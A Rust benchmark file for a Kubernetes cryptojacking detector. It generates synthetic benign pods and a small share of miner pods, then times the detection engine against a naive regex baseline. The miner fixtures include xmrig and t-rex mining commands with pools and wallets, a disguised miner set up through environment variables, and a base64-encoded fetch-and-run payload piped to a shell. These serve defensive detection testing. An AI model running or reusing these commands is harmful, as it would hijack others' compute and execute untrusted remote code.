//! Detection throughput: `CompiledPolicy::evaluate` over a generated, realistic mix of pods
//! (~97% benign, ~3% miners of various forms) next to a naive baseline that builds one
//! `regex::Regex` per signature and tests each against each string of each pod.
//!
//! Run: `cargo bench --bench detect` (see BENCHMARKS.md for the figures).
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a benchmark over generated, known-good data: failing loudly is the point"
)]

use std::collections::BTreeMap;
use std::hint::black_box;
use std::time::Duration;

use base64::Engine as _;
use criterion::measurement::{Measurement, ValueFormatter, WallTime};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use cryptojack::api::{CryptojackPolicySpec, PatternRule, PatternSyntax, Severity, SigmaRule};
use cryptojack::detect::{
    CompiledPolicy, ContainerKind, ContainerView, EnvView, PodView, PortView, SIGNATURES_YAML,
};
use regex::Regex;

const PODS: usize = 10_000;
/// The naive baseline is slow; it runs over the first NAIVE_PODS pods (same mix) and is
/// reported per pod like the engine.
const NAIVE_PODS: usize = 1_000;
const XMR: &str = "48ASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVKf";

/// xorshift64: deterministic, dependency-free.
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize]))
            .collect()
    }
}

fn c(index: usize, name: &str, image: &str, command: &[&str], args: &[&str]) -> ContainerView {
    ContainerView {
        kind: ContainerKind::Regular,
        index,
        name: name.into(),
        image: image.into(),
        command: command.iter().map(|s| s.to_string()).collect(),
        args: args.iter().map(|s| s.to_string()).collect(),
        env: vec![],
        ports: vec![],
        requests: BTreeMap::new(),
        limits: BTreeMap::new(),
        claims: Vec::new(),
        execs: Vec::new(),
    }
}

fn env(pairs: &[(&str, String)]) -> Vec<EnvView> {
    pairs
        .iter()
        .enumerate()
        .map(|(i, (k, v))| EnvView {
            index: i,
            name: k.to_string(),
            value: v.clone(),
        })
        .collect()
}

fn ports(ps: &[i32]) -> Vec<PortView> {
    ps.iter()
        .enumerate()
        .map(|(i, &p)| PortView {
            index: i,
            container_port: p,
            protocol: None,
            name: None,
        })
        .collect()
}

fn benign(r: &mut Rng, i: usize) -> Vec<ContainerView> {
    let v = r.below(20);
    match i % 10 {
        0 => {
            let mut x = c(0, "web", &format!("nginx:1.25.{v}"), &[], &[]);
            x.ports = ports(&[80, 443]);
            vec![x]
        }
        1 => {
            let mut x = c(0, "db", "postgres:16.3", &[], &[]);
            x.env = env(&[
                ("POSTGRES_DB", format!("app{v}")),
                ("POSTGRES_USER", "app".into()),
                ("POSTGRES_PASSWORD", r.hex(24)),
                ("PGDATA", "/var/lib/postgresql/data/pgdata".into()),
            ]);
            x.ports = ports(&[5432]);
            vec![x]
        }
        2 => {
            let mut x = c(
                0,
                "api",
                &format!("registry.example.com/team{v}/orders-api:2.{v}.1"),
                &["gunicorn"],
                &[
                    "app.wsgi:application",
                    "-b",
                    "0.0.0.0:8000",
                    "--workers",
                    "4",
                    "--timeout",
                    "60",
                ],
            );
            x.env = env(&[
                (
                    "DATABASE_URL",
                    format!("postgres://app:{}@db.shop.svc:5432/orders", r.hex(16)),
                ),
                ("REDIS_URL", "redis://redis.shop.svc:6379/0".into()),
                ("LOG_LEVEL", "info".into()),
                (
                    "SENTRY_DSN",
                    format!("https://{}@o1.ingest.sentry.io/42", r.hex(32)),
                ),
            ]);
            x.ports = ports(&[8000]);
            let mut proxy = c(
                1,
                "envoy",
                "envoyproxy/envoy:v1.30.1",
                &[],
                &["-c", "/etc/envoy/envoy.yaml", "--log-level", "warn"],
            );
            proxy.ports = ports(&[9901, 15001]);
            vec![x, proxy]
        }
        3 => {
            let mut x = c(
                0,
                "train",
                "nvcr.io/nvidia/pytorch:24.05-py3",
                &["torchrun"],
                &[
                    "--nproc_per_node=8",
                    "train.py",
                    "--config",
                    &format!("configs/llama-{v}b.yaml"),
                    "--lr",
                    "3e-4",
                    "--algo",
                    "ppo",
                    "-a",
                    "adamw",
                    "--output-dir",
                    "/checkpoints/run",
                ],
            );
            x.requests.insert("nvidia.com/gpu".into(), "8".into());
            x.limits.insert("nvidia.com/gpu".into(), "8".into());
            vec![x]
        }
        4 => vec![c(
            0,
            "sync",
            "alpine:3.19",
            &["/bin/sh", "-c"],
            &[&format!(
                "set -e; apk add --no-cache curl jq && for p in $(seq 1 {v}); do curl -fsSL \"https://api.example.com/v1/items?page=$p\" | jq '.items[]' >> /data/out.json; done; echo done"
            )],
        )],
        5 => {
            let mut x = c(
                0,
                "app",
                "eclipse-temurin:21-jre",
                &["java"],
                &[
                    "-Xmx2g",
                    "-XX:+UseG1GC",
                    "-jar",
                    "/app/app.jar",
                    "--spring.profiles.active=prod",
                    "--server.port=8080",
                ],
            );
            x.env = env(&[
                (
                    "JAVA_OPTS",
                    "-Dfile.encoding=UTF-8 -Duser.timezone=UTC".into(),
                ),
                ("APP_VERSION", format!("5.{v}.0")),
            ]);
            x.ports = ports(&[8080, 8081]);
            vec![x]
        }
        6 => {
            let mut x = c(
                0,
                "redis",
                "redis:7.2",
                &["redis-server"],
                &["--appendonly", "yes", "--maxmemory", "512mb"],
            );
            x.ports = ports(&[6379]);
            vec![x]
        }
        7 => {
            let mut init = c(
                0,
                "wait-db",
                "busybox:1.36",
                &[
                    "sh",
                    "-c",
                    "until nslookup db.shop.svc; do echo waiting; sleep 2; done",
                ],
                &[],
            );
            init.kind = ContainerKind::Init;
            let mut x = c(
                0,
                "web",
                &format!("ghcr.io/example/frontend:{v}.4.2"),
                &["node"],
                &["server.js", "--port", "3000"],
            );
            x.env = env(&[
                ("NODE_ENV", "production".into()),
                ("API_BASE", "http://api.shop.svc:8000".into()),
            ]);
            x.ports = ports(&[3000]);
            vec![init, x]
        }
        8 => {
            let mut x = c(
                0,
                "worker",
                "python:3.12-slim",
                &["celery"],
                &["-A", "proj", "worker", "--loglevel=info", "--concurrency=4"],
            );
            x.env = env(&[("CELERY_BROKER_URL", "redis://redis:6379/0".into())]);
            let mut f = c(
                1,
                "flower",
                "mher/flower:2.0",
                &["celery"],
                &["flower", "--port=5555"],
            );
            f.ports = ports(&[5555]);
            vec![x, f]
        }
        _ => {
            let mut x = c(0, "hub", "selenium/hub:4.20.0", &[], &[]);
            x.ports = ports(&[4442, 4443, 4444]);
            vec![x]
        }
    }
}

fn miner(r: &mut Rng, i: usize) -> Vec<ContainerView> {
    let port = 3333 + r.below(3) as i32;
    match (i / 33) % 6 {
        0 => vec![c(
            0,
            "cache",
            "metal3d/xmrig:latest",
            &[],
            &[
                "-o",
                &format!("pool.supportxmr.com:{port}"),
                "-u",
                XMR,
                "-k",
                "--donate-level=1",
            ],
        )],
        1 => vec![c(
            0,
            "render",
            "nvidia/cuda:12.2.0-runtime-ubuntu22.04",
            &["sh", "-c"],
            &[
                "apt-get update && wget -q https://example.invalid/t-rex-0.26.8-linux.tar.gz && tar xzf t-rex-0.26.8-linux.tar.gz && ./t-rex -a kawpow -o stratum+tcp://rvn.2miners.com:6060 -u RXLdrSHoatFf8hvERYHfcAV1Bchtq65JZu -w rig1",
            ],
        )],
        2 => {
            let payload = base64::engine::general_purpose::STANDARD
                .encode(format!("curl -s http://198.51.100.7/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x -o 198.51.100.8:{port} -u {XMR} --donate-level=0"));
            vec![c(
                0,
                "agent",
                "alpine:3.19",
                &["/bin/sh", "-c"],
                &[&format!("echo {payload} | base64 -d | sh")],
            )]
        }
        3 => vec![c(
            0,
            "kworker",
            "docker.io/library/ubuntu:22.04",
            &["/usr/local/bin/kworker"],
            &[
                "--algo",
                "rx/0",
                "--url",
                "gulf.moneroocean.stream:10128",
                "--user",
                XMR,
                "--cpu-priority",
                "5",
                "--randomx-1gb-pages",
            ],
        )],
        4 => {
            let mut x = c(
                0,
                "app",
                "ghcr.io/example/metrics-agent:2.1",
                &["/app/agent"],
                &[],
            );
            x.env = env(&[
                ("POOL_URL", "stratum+ssl://xmr.2miners.com:12222".into()),
                ("WALLET", XMR.into()),
                ("THREADS", "8".into()),
            ]);
            vec![x]
        }
        _ => vec![c(
            0,
            "exporter",
            "docker.io/lukaszgryglicki/phoenixminer:6.2c",
            &["/PhoenixMiner"],
            &[
                "-pool",
                "eu1.ethermine.org:4444",
                "-wal",
                "0xfdb18fa076bd55f6434bc38e03d2b08145f6fe02.worker",
                "-coin",
                "etc",
            ],
        )],
    }
}

/// `n` pods: every 33rd is a miner (~3%), the rest benign.
fn generate(n: usize) -> Vec<PodView> {
    let mut r = Rng(0x5eed_cafe_f00d_d00d);
    (0..n)
        .map(|i| {
            let containers = if i % 33 == 16 {
                miner(&mut r, i)
            } else {
                benign(&mut r, i)
            };
            let mut labels = BTreeMap::from([("app".to_string(), format!("app-{}", i % 97))]);
            if i % 10 == 3 {
                labels.insert("cryptojack.dev/gpu-approved".into(), "true".into());
            }
            PodView {
                kind: "Pod".into(),
                name: format!("pod-{i}"),
                namespace: Some(format!("ns-{}", i % 50)),
                labels,
                spec_path: cryptojack::detect::FieldPath::fields(&["spec"]),
                containers,
                ..Default::default()
            }
        })
        .collect()
}

/// CPU time of the benchmark thread (`/proc/thread-self/schedstat`, nanoseconds on a CPU):
/// on a shared machine the wall time counts the time other processes had the CPU; this does
/// not (caches and memory bandwidth are still shared).
struct ThreadCpu;

fn thread_cpu_ns() -> u64 {
    std::fs::read_to_string("/proc/thread-self/schedstat")
        .ok()
        .and_then(|s| s.split_whitespace().next()?.parse().ok())
        .expect("/proc/thread-self/schedstat (Linux) for the CPU-time benches")
}

static WALL: WallTime = WallTime;

impl Measurement for ThreadCpu {
    type Intermediate = u64;
    type Value = u64;
    fn start(&self) -> u64 {
        thread_cpu_ns()
    }
    fn end(&self, start: u64) -> u64 {
        thread_cpu_ns().saturating_sub(start)
    }
    fn add(&self, a: &u64, b: &u64) -> u64 {
        a + b
    }
    fn zero(&self) -> u64 {
        0
    }
    fn to_f64(&self, v: &u64) -> f64 {
        *v as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        // nanoseconds, shown like wall time
        WALL.formatter()
    }
}

/// The naive approach: one case-insensitive regex per signature entry of signatures.yaml.
struct Naive {
    regexes: Vec<Regex>,
}

impl Naive {
    fn new() -> Naive {
        let v: serde_json::Value =
            serde_saphyr::from_str(SIGNATURES_YAML).expect("signatures parse");
        let mut regexes = Vec::new();
        for (key, list) in v.as_object().expect("map") {
            if key == "not_miners" {
                continue;
            }
            for (_, items) in list.as_object().expect("list") {
                for item in items.as_array().into_iter().flatten() {
                    let s = match item {
                        serde_json::Value::String(s) => s.clone(),
                        serde_json::Value::Number(n) => n.to_string(),
                        _ => continue,
                    };
                    regexes.push(Regex::new(&format!("(?i){}", regex::escape(&s))).expect("regex"));
                }
            }
        }
        // and the wallet shape
        regexes.push(Regex::new(r"\b[48][1-9A-HJ-NP-Za-km-z]{94}\b").expect("regex"));
        Naive { regexes }
    }

    /// Number of (string, signature) matches in a pod.
    fn evaluate(&self, pod: &PodView) -> usize {
        let mut n = 0;
        for c in &pod.containers {
            let strings = std::iter::once(&c.image)
                .chain(&c.command)
                .chain(&c.args)
                .chain(c.env.iter().map(|e| &e.value));
            for s in strings {
                for re in &self.regexes {
                    if re.is_match(s) {
                        n += 1;
                    }
                }
            }
        }
        n
    }
}

fn policy_with_user_rules() -> CompiledPolicy {
    let mut spec = CryptojackPolicySpec::default();
    for k in 0..20 {
        spec.detect.images.push(PatternRule {
            id: None,
            pattern: format!("evil{k}.example/"),
            syntax: PatternSyntax::Substring,
            severity: Severity::High,
            description: None,
        });
        spec.detect.commands.push(PatternRule {
            id: None,
            pattern: format!(r"--bad-flag-{k}=\d+"),
            syntax: PatternSyntax::Regex,
            severity: Severity::Medium,
            description: None,
        });
    }
    let sigma: SigmaRule = serde_saphyr::from_str(
        "title: Crypto Mining Process Detected\ndetection:\n  selection:\n    Image|contains: ['xmrig', 'minerd', 'cryptonight', 't-rex', 'phoenixminer']\n  condition: selection\nlevel: critical\n",
    )
    .expect("sigma");
    spec.detect.sigma.push(sigma);
    CompiledPolicy::compile("bench", &spec).expect("policy compiles")
}

fn bench(c: &mut Criterion) {
    let pods = generate(PODS);
    let default = CompiledPolicy::builtin_default();
    let custom = policy_with_user_rules();
    let naive = Naive::new();
    let flagged = pods
        .iter()
        .filter(|p| {
            default
                .evaluate_offline(p)
                .iter()
                .any(|f| f.severity >= Severity::High)
        })
        .count();
    eprintln!(
        "pods: {PODS}, flagged high+ by the engine: {flagged}; naive regexes: {}; builtin rules: {}",
        naive.regexes.len(),
        default.rule_count()
    );

    let mut g = c.benchmark_group("detect");
    g.sample_size(10)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(4));
    g.throughput(Throughput::Elements(PODS as u64));
    g.bench_function("evaluate_builtin_default", |b| {
        b.iter(|| {
            pods.iter()
                .map(|p| default.evaluate_offline(black_box(p)).len())
                .sum::<usize>()
        })
    });
    g.bench_function("evaluate_with_user_patterns_and_sigma", |b| {
        b.iter(|| {
            pods.iter()
                .map(|p| custom.evaluate_offline(black_box(p)).len())
                .sum::<usize>()
        })
    });
    g.throughput(Throughput::Elements(NAIVE_PODS as u64));
    g.bench_function("naive_regex_per_signature", |b| {
        b.iter(|| {
            pods[..NAIVE_PODS]
                .iter()
                .map(|p| naive.evaluate(black_box(p)))
                .sum::<usize>()
        })
    });
    g.finish();
}

/// The engine benches again, timed in CPU time of the bench thread (`detect_cpu/...`).
fn bench_cpu(c: &mut Criterion<ThreadCpu>) {
    let pods = generate(PODS);
    let default = CompiledPolicy::builtin_default();
    let custom = policy_with_user_rules();
    let mut g = c.benchmark_group("detect_cpu");
    g.sample_size(10)
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(4));
    g.throughput(Throughput::Elements(PODS as u64));
    g.bench_function("evaluate_builtin_default", |b| {
        b.iter(|| {
            pods.iter()
                .map(|p| default.evaluate_offline(black_box(p)).len())
                .sum::<usize>()
        })
    });
    g.bench_function("evaluate_with_user_patterns_and_sigma", |b| {
        b.iter(|| {
            pods.iter()
                .map(|p| custom.evaluate_offline(black_box(p)).len())
                .sum::<usize>()
        })
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_group! {
    name = benches_cpu;
    config = Criterion::default().with_measurement(ThreadCpu);
    targets = bench_cpu
}
criterion_main!(benches, benches_cpu);
